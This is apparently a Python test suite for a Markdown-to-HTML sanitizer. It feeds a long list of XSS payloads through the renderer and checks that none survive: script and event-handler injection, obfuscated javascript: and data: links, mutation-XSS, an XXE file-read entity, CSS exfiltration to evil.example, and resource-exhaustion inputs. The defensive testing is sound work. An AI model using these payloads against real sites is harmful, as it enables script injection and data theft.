"""No text becomes script, a handler, a foreign id or a way off the allow-list; every text has an end."""

import unicodedata
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.domain.rendering import TooComplex, guard, is_plain, is_safe_address
from cases.domain.rendering.allowed import CLEANER
from cases.domain.rendering.bounds import BRACKETS, LARGE, LONG, NESTED, NOTES, TABLES
from tests.cases.domain.parts import Page, html_of, part

# Written out here on purpose: a tag that is let in by mistake must fail a test.
TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    ("a", "href"), ("a", "title"), ("a", "rel"), ("a", "aria-label"), ("a", "class"), ("div", "class"),
    ("div", "role"), ("div", "aria-label"), ("span", "class"), ("sup", "class"), ("sup", "id"), ("li", "id"),
    ("td", "align"), ("th", "align"), ("ol", "start"),
}  # fmt: skip
CLASSES = {
    "case-link", "red", "footnote-ref", "footnote-backref", "citation", "citations", "footnote",
    "unknown-source",
}  # fmt: skip


def as_a_browser_reads(address: str) -> str:
    """The address after what browsers do to it: tabs and line ends dropped, ends trimmed, slashes turned."""
    kept = "".join(character for character in address if character not in "\t\n\r")
    return kept.strip("".join(map(chr, range(33)))).replace("\\", "/")


def faults(html: str) -> list[str]:
    """Everything in the HTML that must never be there."""
    page = Page(html)
    found = [f"<{tag}>" for tag in page.tags - TAGS] + page.other
    for tag, attributes in page.elements:
        found += [f"{tag} {name}" for name in attributes if (tag, name) not in ATTRIBUTES]
        found += [f"class {name}" for name in set(attributes.get("class", "").split()) - CLASSES]
    found += [f"id {name}" for name in page.values("id") if not name.startswith("u-in-short-")]
    return found + [address for address in page.values("href") if not leads_somewhere_allowed(address)]


def leads_somewhere_allowed(address: str) -> bool:
    read = as_a_browser_reads(address)
    if read.startswith("#"):
        return True
    if read.startswith("/"):
        return not read.startswith("//")
    split = urlsplit(read)
    if split.scheme == "mailto":
        return True
    return split.scheme in {"http", "https"} and "@" not in split.netloc and bool(split.hostname)


PAYLOADS = [
    # X1, scripts, handlers and elements in the text
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=q></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "- item\n\n    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "a | <script>alert(1)</script>\n- | -\n<img src=x onerror=alert(1)> | b",
    "# <img src=x onerror=alert(1)>",
    "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\ncode\n```",
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    # X9 and X10, meaning that changes when the HTML is read again, or a step that writes after the last one
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p title='</p><img src=x onerror=alert(1)>'>",
    "<table><td><form><input></table><b>",
    "<a><table><a href=javascript:alert(1)>x",
    "[a [b](https://example.org) c](javascript:alert(1))",
    "[x [@baig2015] [[Guifi.net]]](https://example.org \"</a><script>\")",
    "\x02amp\x03lt;script\x02amp\x03gt;alert(1)",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script\x0262\x03",
    "[[<script>alert(1)</script>]]",
    "[[x\" onmouseover=\"alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]] [[guifi-net|javascript:alert(1)]]",
    "[[&lt;script&gt;|&#60;script&#62;]]",
    "[@baig2015\" onclick=\"alert(1)]",
    "[@baig2015]{onclick=alert(1)}",
    # X11, ids, names, classes and styles of the page
    "<a id=content name=csrfmiddlewaretoken class=button>x</a>",
    "x {: #main .msg onclick=alert(1) style='x' }",
    "# Heading {#main}",
    "a[^main]\n\n[^main]: <form id=x>",
    "a[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x",
    "[^__proto__] [^constructor]\n\n[^__proto__]: x\n[^constructor]: y",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "a|b\n:-|-:\n<td style=x align=\"left onclick=x\">|y",
    # X12, dangerous addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](&NewLine;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:https://example.org)",
    "[x](feed:javascript:alert(1))",
    "[x](ftp://evil.example/)",
    "<javascript:alert(1)>",
    "<ftp://evil.example/>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <data:text/html,x> \"title\"",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](/&#47;evil.example)",
    "[x](&#47;&#47;evil.example)",
    "[x](/&#92;evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](/&sol;evil.example)",
    "[x](/&bsol;evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://bank.example&#64;evil.example/)",
    "[x](https://bank.example&commat;evil.example/)",
    "[x](https://bank.example\\@evil.example/)",
    "[x](https://bank.example/\u202egnp.exe)",
    "[x](https://bank.example/\u2028x)",
    "[x](https://[evil)",
    "[x](https://evil\uff0fexample.org)",
    "<javascript:alert(1)@example.org>",
    "<mailto:javascript:alert(1)@example.org>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
]  # fmt: skip


@pytest.mark.parametrize("text", PAYLOADS)
def test_hostile_text_is_words_and_nothing_else(text: str) -> None:
    assert faults(html_of(text)) == []


@pytest.mark.parametrize("text", PAYLOADS)
def test_reading_the_html_again_changes_nothing(text: str) -> None:
    html = html_of(text)
    assert CLEANER.clean(html) == html


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_last_step_holds_on_its_own(text: str) -> None:
    assert faults(CLEANER.clean(text)) == []


def test_the_payloads_are_caught_when_they_do_come_alive() -> None:
    live = [
        "<script>x</script>",
        "<a onclick=x>x</a>",
        "<a href='/&Tab;/evil.example'>x</a>",
        "<a href='javascript:x'>x</a>",
        "<a href='https://a@b'>x</a>",
        "<a class='msg'>x</a>",
        "<li id='main'>x</li>",
        "<!-- x -->",
    ]
    assert all(faults(html) for html in live)


def test_typed_html_stays_readable() -> None:
    text = "<script>alert(1)</script>"
    assert Page(html_of(text)).text == text


# --- addresses ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org", "http://example.org:80/a?b=c#d", "HTTPS://EXAMPLE.ORG",
        "mailto:a@example.org", "/", "/cases/guifi-net/", "/a//b", "#", "#source-a",
        "https://example.org/@name", "https://münchen.example/ü",
    ],
)  # fmt: skip
def test_addresses_that_a_link_may_have(address: str) -> None:
    assert is_safe_address(address)


@pytest.mark.parametrize(
    "address",
    [
        "", "a", "a/b", "../a", "?a=b", "//a", "/\\a", "\\a", "javascript:x", "data:x", "ftp://a", "https:a", "https://",
        "https:///a", "https://a@b", "https://a:b@c", "https://a\\@b", "mailto:", "https://[a", " https://a",
        "https://a b", "https://a\tb", "/\n/a", "/\u2028", "/\u202e", "/\x00", "/\u200b", "/\ud800",
    ],
)  # fmt: skip
def test_addresses_that_a_link_may_not_have(address: str) -> None:
    assert not is_safe_address(address)


@given(st.text(alphabet="/\\:#?@.a\t\n \u2028\x00\u202e", max_size=12).map("".join) | st.text(max_size=12))
def test_a_safe_address_is_read_by_browsers_as_it_stands(address: str) -> None:
    if is_safe_address(address):
        assert as_a_browser_reads(address) == address
        assert leads_somewhere_allowed(address)
        assert not any(unicodedata.category(character).startswith("C") for character in address)


# --- rules for any text ---------------------------------------------------------------------------

SHARDS = [
    "[", "]", "(", ")", "[[", "]]", "|", "[^1]", "[^1]:", "[^a b]", "[@baig2015]", "[@x; @y]",
    "[[Guifi.net]]", "*", "**", "_", "`", "```", "~~~", "<", ">", "&", "&#47;", "&lt;", "&Tab;", "#", "- ",
    "1. ", "> ", "    ", "\n", "\n\n", "\\", "https://", "javascript:", "//", "/", "@", ":", "\"", "'", "{",
    "}", "!", "a", "é", "\u202e", "\x00", "\x02", "\x03", "<script>", "</p>", "<a@b.example>", "---", "|-|",
    "=", " ", "\t", "\u00a0", "[r]: ", "<!--", "-->", "\ufffe",
]  # fmt: skip
shattered = st.lists(st.sampled_from(SHARDS), max_size=40).map("".join)


def rendered_or_refused(text: str) -> str | None:
    try:
        return html_of(text)
    except TooComplex:
        return None


@given(st.text() | shattered)
def test_any_text_is_rendered_safely_or_refused(text: str) -> None:
    html = rendered_or_refused(text)
    assert html is None or faults(html) == []


def drawn_alone(text: str) -> str | None:
    """What the text becomes in a thread that never rendered another."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(rendered_or_refused, text).result()


@given(st.text() | shattered, st.text() | shattered)
def test_a_text_becomes_the_same_whatever_was_rendered_before_it(before: str, text: str) -> None:
    rendered_or_refused(before)
    assert rendered_or_refused(text) == drawn_alone(text)


@given(st.text() | shattered)
def test_a_plain_text_within_the_bounds_is_never_refused(text: str) -> None:
    if is_plain(text):
        guard(text)
        assert part(text).words >= 0


@pytest.mark.parametrize(
    "mark", ["*", "_a ", "**", "`", "[", "[[a]]", "[@a]", "> a\n", "<a@b.c>", "|", "~~~\n", "\\"]
)
def test_as_many_marks_as_a_plain_text_may_have_are_rendered(mark: str) -> None:
    times = max(count for count in range(61) if is_plain(mark * count))
    text = mark * times
    assert part(text + "&" * (4_000 - len(text))).html


@given(st.text() | shattered)
def test_any_html_is_a_fixed_point_of_the_last_step(text: str) -> None:
    html = rendered_or_refused(text)
    assert html is None or CLEANER.clean(html) == html


@given(st.text() | shattered)
def test_no_footnote_link_dangles_and_no_id_comes_twice(text: str) -> None:
    page = Page(rendered_or_refused(text) or "")
    ids = page.values("id")
    assert len(ids) == len(set(ids))
    links = [found for tag, found in page.elements if tag == "a" and "footnote" in found.get("class", "")]
    assert {link["href"] for link in links} <= {f"#{name}" for name in ids}


@given(st.text(alphabet="/\\:#?@.&;ajvscript47;\t", max_size=30))
def test_no_spelling_of_an_address_leads_astray(address: str) -> None:
    html = rendered_or_refused(f"[x]({address}) <{address}> [y][r]\n\n[r]: {address}")
    assert html is None or faults(html) == []


# --- bounds ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "refusal"),
    [
        ("a" * 20_001, LONG),
        ("[" * 5_000, BRACKETS),
        ("[[" * 5_000, BRACKETS),
        ("[\n\u00a0\n" * 5_000, BRACKETS),  # lines that look blank but are not
        ("[\n\x0b\n" * 5_000, BRACKETS),
        ("[\r" * 5_000, BRACKETS),
        ("".join(f"[^{number}] " for number in range(2_000)), BRACKETS),
        ("".join(f"a[^{number}]\n\n" for number in range(2_000)), NOTES),
        ("a[\x02^1]\n\n" * 2_000 + "[^1]: x", NOTES),  # a mark that the renderer drops
        ("1. " * 2_000, NESTED),
        ("> " * 2_000, NESTED),
        (">" * 2_000, NESTED),
        ("\t" * 26 + "- a", NESTED),
        ("a|" * 900 + "\n" + "-|" * 900 + "\n" + "x\n" * 8_000, TABLES),  # 72 MB of cells
        ("[x]\n\n" * 2_000 + "[x]: /" + "y" * 9_000, LARGE),  # 18 MB of addresses
    ],
)
def test_text_past_a_bound_is_refused_with_the_way_out(text: str, refusal: str) -> None:
    with pytest.raises(TooComplex, match=r"^The text (has|is|becomes) .+\. .+\.$") as raised:
        part(text)
    assert str(raised.value) == refusal


@pytest.mark.parametrize(
    "text",
    [
        "a" * 20_000,
        "[" * 500,
        "a [b](/c) [@ostrom].\n\n" * 900,
        "[a](/b)\r\n\r\n" * 1_000,
        "[a](/b)\r\r" * 1_000,
        "a[^1] " * 190 + "\n\n[^1]: x",
        "-" * 300,
        "| a | b |\n|---|---|\n" + "| c | d |\n" * 1_900,
        "- a\n\n  \r\n- b\n" * 1_000,
    ],
)
def test_text_inside_the_bounds_passes(text: str) -> None:
    guard(text)


@pytest.mark.parametrize(
    "text",
    [
        "# a\n", "```a\n", "*a**b*", "***a** b* ", "a|b\n-|-\n", "- a\n", "- a\n\n", "&", "\\", "<", "**",
        "`", "_a", "\n", "\t", "[^1]: x\n", "[x]: y\n", "[[a]]\n\n", "[@a] \n\n", "a  \n", "<a@b.c>",
        "\U0001f600", "    - a\n", "~~~\n", "|\n",
    ],
)  # fmt: skip
def test_the_longest_part_of_any_one_mark_has_an_end(text: str) -> None:
    html = rendered_or_refused((text * 20_000)[:20_000])
    assert html is None or faults(html) == []


def test_exhausted_depth_is_an_answer_and_no_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    def exhausted(*_arguments: object) -> str:
        raise RecursionError

    monkeypatch.setattr("markdown.Markdown.convert", exhausted)
    with pytest.raises(TooComplex, match="nested too deeply"):
        part("*a*")
